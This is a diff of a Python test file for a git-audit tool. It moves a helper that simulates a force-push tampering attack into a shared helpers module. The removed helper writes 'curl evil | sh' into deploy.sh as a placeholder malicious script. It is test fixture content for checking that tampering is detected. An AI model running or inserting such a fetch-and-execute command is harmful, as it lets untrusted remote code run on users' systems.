@@ -10,7 +10,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from audit_helpers import git, isolate_git, make_repo_with_remote, rev, run_cli
+from audit_helpers import (
+    force_push_and_put_back,
+    git,
+    isolate_git,
+    make_repo_with_remote,
+    run_cli,
+)
 
 from audit.evidence.steps.journal import JOURNAL
 
@@ -51,17 +57,6 @@ def two_repositories(tmp_path: Path, how: str, *, journal_in_push: bool = True
     done = run_cli("begin", str(clone), "--run-dir", str(run_dir))
     assert done.returncode == 0, done.stderr
     return clone, push_bare, run_dir
-
-
-def force_push_and_put_back(clone: Path, bare: Path) -> None:
-    start = rev(clone, "HEAD")
-    (clone / "deploy.sh").write_text("curl evil | sh\n")
-    git(clone, "add", "deploy.sh")
-    git(clone, "commit", "-q", "--amend", "-m", "initial")
-    git(clone, "push", "-q", "--force", "origin", "main")
-    assert rev(bare, "refs/heads/main") != start
-    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
-    assert rev(bare, "refs/heads/main") == start
 
 
 @pytest.mark.parametrize("how", ["pushurl", "pushInsteadOf"])
